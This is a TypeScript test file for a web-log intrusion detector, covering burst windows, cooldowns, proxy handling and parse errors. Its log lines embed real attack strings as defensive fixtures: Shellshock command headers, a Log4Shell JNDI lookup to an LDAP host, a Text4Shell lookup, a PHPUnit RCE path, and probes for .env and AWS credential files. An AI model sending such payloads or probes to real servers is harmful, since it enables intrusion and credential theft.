import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { applyClaim, decideClaim } from '../../lambdas/core/decide.js';
import type { DetectorOptions } from '../../lambdas/core/scan.js';
import { EventWindow } from '../../lambdas/core/window.js';
import { scanLines } from '../support/detector.js';
import { timeAt } from '../support/records.js';

const line = (ip: string, second: number, request: string, status: number, ua = 'Mozilla/5.0 Firefox/120.0') =>
  `${ip} - - [${timeAt(second)}] "${request}" ${status} 10 "-" "${ua}"`;

/** `n` distinct missing (unlabelled) paths from one source, `gap` seconds apart. */
const wordlist = (ip: string, start: number, n: number, gap: number) =>
  Array.from({ length: n }, (_, i) => line(ip, start + i * gap, `GET /word${i} HTTP/1.1`, 404));

describe('event-time windows', () => {
  it('a burst that straddles a window boundary is caught', () => {
    // 10 distinct 404s from 100 s to 145 s: across the 120 s mark, and across bucket edges.
    const { report } = scanLines({ a: wordlist('198.51.100.7', 100, 10, 5) });
    assert.equal(report.alerts.length, 1);
    assert.equal(report.alerts[0]?.trigger, 'error-burst');
    assert.equal(report.alerts[0]?.distinctErrorPaths, 10);
  });

  it('the same paths spread thinner than the window do not alert', () => {
    const { report } = scanLines({ a: wordlist('198.51.100.7', 0, 10, 30) });
    assert.equal(report.alerts.length, 0);
    assert.equal(report.sources.length, 0, 'plain 404s leave no label, so the source is not listed');
  });

  it('uses the log timestamps, not arrival order', () => {
    const lines = wordlist('198.51.100.8', 1000, 10, 3).reverse();
    const { report } = scanLines({ a: lines });
    assert.equal(report.alerts.length, 1);
    assert.equal(report.alerts[0]?.firstSeen, '2024-01-01T00:16:40Z');
  });

  it('one scan split over three objects delivered out of order alerts once', () => {
    const all = wordlist('203.0.113.80', 0, 30, 2);
    const { report } = scanLines({ c: all.slice(20), a: all.slice(0, 10), b: all.slice(10, 20) });
    assert.equal(report.alerts.length, 1);
    assert.equal(report.alerts[0]?.alertCount, 1);
    assert.equal(report.alerts[0]?.requests, 30);
  });

  it('at most one alert per cooldown; a new burst after the cooldown alerts again', () => {
    const first = wordlist('203.0.113.81', 0, 12, 1);
    const second = wordlist('203.0.113.81', 1800, 12, 1);
    const third = wordlist('203.0.113.81', 4000, 12, 1);
    const { report } = scanLines({ a: [...first, ...second, ...third] });
    assert.equal(report.alerts.length, 1, 'one entry per source');
    assert.equal(report.alerts[0]?.alertCount, 2, 'the burst at 30 min is inside the 1 h cooldown; the one at 66 min is not');
  });

  it('an exploit after a probe alert escalates once inside the cooldown', () => {
    const probes = wordlist('203.0.113.82', 0, 12, 1);
    const exploit = line('203.0.113.82', 60, 'GET / HTTP/1.1', 200, '() { :; }; /bin/bash -c id');
    const { report } = scanLines({ a: [...probes, exploit, exploit] });
    assert.equal(report.alerts[0]?.severity, 'critical');
    assert.equal(report.alerts[0]?.alertCount, 2);
  });

  it('a single high-confidence signature alerts at once', () => {
    const { report } = scanLines({ a: [line('192.0.2.33', 0, 'GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1', 404)] });
    assert.equal(report.alerts.length, 1);
    assert.equal(report.alerts[0]?.trigger, 'signature:known-rce-path');
  });

  it('a scanner user agent alerts on its second request, not its first', () => {
    const ua = 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)';
    assert.equal(scanLines({ a: [line('192.0.2.34', 0, 'GET / HTTP/1.1', 200, ua)] }).report.alerts.length, 0);
    assert.equal(
      scanLines({ a: [line('192.0.2.34', 0, 'GET / HTTP/1.1', 200, ua), line('192.0.2.34', 5, 'GET /x HTTP/1.1', 404, ua)] }).report.alerts.length,
      1,
    );
  });

  it('brute force: 8 failed logins within 60 s', () => {
    // A browser's pace (the form and its stylesheet fetched first), so only the threshold decides.
    const tries = (n: number, gap: number) => [
      line('192.0.2.35', 0, 'GET /wp-login.php HTTP/1.1', 200),
      line('192.0.2.35', 1, 'GET /wp-admin/css/login.min.css HTTP/1.1', 200),
      ...Array.from({ length: n }, (_, i) => line('192.0.2.35', 10 + i * gap, 'POST /wp-login.php HTTP/1.1', 200)),
    ];
    assert.equal(scanLines({ a: tries(7, 5) }).report.alerts.length, 0);
    const { report } = scanLines({ a: tries(8, 5) });
    assert.equal(report.alerts[0]?.trigger, 'threshold:login-post');
    assert.deepEqual(report.alerts[0]?.categories, ['brute-force']);
  });

  it('benign labels never alert, however many', () => {
    const dummies = Array.from({ length: 500 }, (_, i) => line('127.0.0.1', i, 'OPTIONS * HTTP/1.0', 200, '-'));
    const health = Array.from({ length: 500 }, (_, i) => line('10.0.0.5', i, 'GET /nope HTTP/1.1', 404, 'ELB-HealthChecker/2.0'));
    const { report } = scanLines({ a: [...dummies, ...health] });
    assert.equal(report.alerts.length, 0);
    assert.deepEqual(new Set(report.sources.map((s) => `${s.source} ${s.verdict}`)), new Set(['127.0.0.1 benign', '10.0.0.5 benign']));
    assert.equal(report.benign.find((b) => b.category === 'apache-internal-dummy-connection')?.requests, 500);
  });

  it('IPv6 sources are aggregated per /64', () => {
    const lines = Array.from({ length: 12 }, (_, i) => line(`2001:db8:1:2::${(i + 1).toString(16)}`, i, `GET /p${i} HTTP/1.1`, 404));
    const { report } = scanLines({ a: lines });
    assert.equal(report.alerts[0]?.source, '2001:db8:1:2::/64');
  });

  it('behind a trusted proxy the X-Forwarded-For client is the source', () => {
    const lines = Array.from({ length: 12 }, (_, i) => `10.0.0.9 [${timeAt(i)}] "GET /p${i} HTTP/1.1" 404 "203.0.113.99"`);
    const format = 'apache:%h %t "%r" %>s "%{X-Forwarded-For}i"';
    const trusted = scanLines({ a: lines }, { trustedProxies: ['10.0.0.0/8'] }, { format }).report;
    assert.equal(trusted.alerts[0]?.source, '203.0.113.99');
    const untrusted = scanLines({ a: lines }, {}, { format }).report;
    assert.equal(untrusted.alerts[0]?.source, '10.0.0.9');
    assert.match(untrusted.alerts[0]?.note ?? '', /private address.*trustedProxies/);
  });

  it("behind a trusted proxy, an outside client's health-check or dummy-connection agent cancels nothing", () => {
    // The proxy (the peer) is internal or loopback; the client it forwarded is not.
    const probes = ['/.env', '/.git/config', '/wp-config.php.bak', '/phpmyadmin/', '/cgi-bin/test.cgi', '/server-status', '/backup.zip', '/.aws/credentials'];
    const format = 'apache:%h %t "%r" %>s "%{User-Agent}i" "%{X-Forwarded-For}i"';
    for (const [proxy, ua] of [
      ['10.0.0.5', 'ELB-HealthChecker/2.0'],
      ['127.0.0.1', '(internal dummy connection)'],
    ] as const) {
      const lines = probes.flatMap((p, i) => [0, 1, 2].map((k) => `${proxy} [${timeAt(i * 3 + k)}] "GET ${p}?${k} HTTP/1.1" 404 "${ua}" "198.51.100.77"`));
      const { report } = scanLines({ a: lines }, { trustedProxies: [proxy === '127.0.0.1' ? '127.0.0.1/32' : '10.0.0.0/8'] }, { format });
      assert.equal(report.alerts[0]?.source, '198.51.100.77', ua);
      assert.ok(!report.benign.some((b) => b.category === 'health-check' || b.category === 'apache-internal-dummy-connection'), ua);
    }
    // The proxy's own health checks (no forwarded client) stay benign.
    const own = Array.from({ length: 20 }, (_, i) => `10.0.0.5 [${timeAt(i)}] "GET /nope${i} HTTP/1.1" 404 "ELB-HealthChecker/2.0" "-"`);
    const mine = scanLines({ a: own }, { trustedProxies: ['10.0.0.0/8'] }, { format }).report;
    assert.equal(mine.alerts.length, 0);
    assert.equal(mine.benign.find((b) => b.category === 'health-check')?.requests, 20);
  });

  it('Log4Shell, Text4Shell and Shellshock alert in fields the record does not keep (user, Host, a logged header, a JSON field)', () => {
    const jndi = '${jndi:ldap://192.0.2.1/a}';
    const cases: [string, string, DetectorOptions][] = [
      ['the user name', `198.51.100.1 - ${jndi} [${timeAt(0)}] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0"`, {}],
      ['a header logged after the user agent', `198.51.100.2 - - [${timeAt(0)}] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0" "${jndi}"`, {}],
      [
        'the Host',
        `198.51.100.3 - - [${timeAt(0)}] "GET / HTTP/1.1" 200 5 "${jndi}"`,
        { format: 'nginx:$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$host"' },
      ],
      [
        'a JSON field',
        `{"time":"2024-01-01T00:00:00Z","remote_addr":"198.51.100.4","request":"GET / HTTP/1.1","status":200,"http_x_api_version":"${jndi}"}`,
        {},
      ],
      ['Text4Shell in a header', `198.51.100.5 - - [${timeAt(0)}] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0" "\${script:js:1}"`, {}],
      ['Shellshock in a header', `198.51.100.6 - - [${timeAt(0)}] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0" "() { :; }; /bin/id"`, {}],
    ];
    for (const [where, line, options] of cases) {
      const { report } = scanLines({ a: [line] }, {}, options);
      assert.equal(report.lines.parsed, 1, where);
      assert.equal(report.alerts.length, 1, where);
      assert.match(report.alerts[0]?.categories.join() ?? '', /log4shell|text4shell|shellshock/, where);
    }
    // A line without any of it is not labelled by the scan of the whole line.
    const plain = scanLines({ a: [`198.51.100.7 - - [${timeAt(0)}] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0" "$ {x} (y)"`] }).report;
    assert.equal(plain.alerts.length, 0);
  });

  it('allowlisted CIDRs are never alerted', () => {
    const { report } = scanLines({ a: wordlist('192.0.2.50', 0, 20, 1) }, { allowlist: { cidrs: ['192.0.2.0/24'], userAgents: [] } });
    assert.equal(report.alerts.length, 0);
    assert.equal(report.sources[0]?.verdict, 'benign');
  });
});

describe('headlines', () => {
  it('name the leading finding: CGI/PHP only when those lead', () => {
    const nikto = 'Mozilla/5.00 (Nikto/2.1.6)';
    const lines = [
      line('198.51.100.40', 0, 'GET /cgi-bin/test.cgi HTTP/1.1', 404, nikto),
      line('198.51.100.40', 1, 'GET /cgi-bin/php5 HTTP/1.1', 404, nikto),
      line('198.51.100.40', 2, 'GET / HTTP/1.1', 200, nikto),
    ];
    assert.match(scanLines({ a: lines }).report.alerts[0]?.reason ?? '', /^Vulnerability scanner: /);
    const sweep = ['test.cgi', 'php5', 'env.cgi', 'php4'].map((p, i) => line('198.51.100.41', i, `GET /cgi-bin/${p} HTTP/1.1`, 404));
    assert.match(scanLines({ a: sweep }).report.sources[0]?.reason ?? '', /^CGI\/PHP probe sweep: /);
  });
});

describe('window buckets', () => {
  it('drops events older than the lateness horizon', () => {
    const w = new EventWindow(10_000, 120_000, 60_000);
    assert.ok(w.add(1_000_000, 5, null));
    assert.ok(!w.add(1_000_000 - 200_000, 5, null));
    assert.ok(w.add(1_000_000 - 50_000, 5, null));
    assert.equal(w.peakAround(1_000_000).score, 10);
  });
});

describe('alert claims', () => {
  const hour = 3_600_000;
  it('decides new, cooldown and escalation in event time, in either direction', () => {
    assert.equal(decideClaim(null, 0, 'medium', hour), 'new');
    const claim = applyClaim(null, 'new', 10 * hour, 'medium');
    assert.equal(decideClaim(claim, 10 * hour + 1000, 'medium', hour), 'cooldown');
    assert.equal(decideClaim(claim, 10 * hour - 1000, 'low', hour), 'cooldown', 'an earlier object arriving late');
    assert.equal(decideClaim(claim, 10 * hour + 1000, 'critical', hour), 'escalate');
    assert.equal(decideClaim(claim, 11 * hour, 'medium', hour), 'new');
    assert.equal(applyClaim(claim, 'escalate', 10 * hour + 1000, 'critical')?.count, 2);
  });
});

describe('parse accounting', () => {
  it('counts bad lines by reason, keeps at most 20 samples, and explains a format mismatch', () => {
    const good = Array.from({ length: 50 }, (_, i) => line('198.51.100.1', i, 'GET / HTTP/1.1', 200));
    const bad = Array.from({ length: 60 }, (_, i) => `garbage line ${i} \u001b[31mred`);
    const { report } = scanLines({ 'mixed.log': [...good, '', ...bad] });
    assert.equal(report.lines.total, 111);
    assert.equal(report.lines.parsed, 50);
    assert.equal(report.lines.skipped['format-mismatch'], 60);
    assert.equal(report.lines.skipped['blank-line'], 1);
    assert.equal(report.skippedSamples.length, 20);
    assert.ok(!report.skippedSamples.some((s) => s.text.includes('\u001b')), 'escape sequences are neutralised');
    assert.match(report.files[0]?.hint ?? '', /60 of 110 lines did not parse in any known format \(detected per line; seen: combined 50\).*--format/);
  });
});
